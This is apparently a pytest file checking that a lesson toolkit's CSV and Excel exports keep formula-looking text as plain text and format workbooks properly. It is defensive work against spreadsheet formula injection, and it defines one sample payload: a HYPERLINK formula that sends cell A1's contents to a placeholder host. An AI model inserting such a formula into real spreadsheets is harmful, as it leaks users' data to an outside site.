"""Exports are safe in a spreadsheet: formula-looking text stays text in CSV and in Excel workbooks."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd

from lessonkit.safe_export import csv_bytes, safe_cell, xlsx_bytes

EVIL = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'


def test_formula_like_text_gets_a_quote_and_numbers_stay_numbers():
    assert safe_cell(EVIL) == "'" + EVIL
    assert safe_cell("-5") == "'-5" and safe_cell(-5) == -5 and safe_cell("Ana") == "Ana"


def test_csv_has_a_bom_and_no_cell_starting_a_formula():
    data = csv_bytes(pd.DataFrame({"Nama": [EVIL, "Budi"], "Nilai": [80, -5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",-5" in text


def test_workbook_keeps_formula_like_names_as_text_shown_as_typed():
    frame = pd.DataFrame({"Nama": [EVIL, "@SUM(1)", "Budi"], "Nilai": [80.5, None, 3]})
    data = xlsx_bytes({"Nilai": frame}, {"Nilai": "0.0"})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Nilai"]
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
    assert sheet["A4"].value == "Budi" and not sheet["A4"].quotePrefix
    assert sheet["B2"].value == 80.5 and sheet["B2"].number_format == "0.0" and sheet["B3"].value is None
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "no cell of the workbook is a formula"


def test_workbook_has_a_bold_frozen_header_filters_and_fitted_widths():
    frame = pd.DataFrame({"No": [1, 2], "Alasan": ["pendek", "x" * 200]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Data": frame})))["Data"]
    assert [c.value for c in sheet[1]] == ["No", "Alasan"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width < sheet.column_dimensions["B"].width <= 60
    assert sheet["B3"].alignment.wrap_text
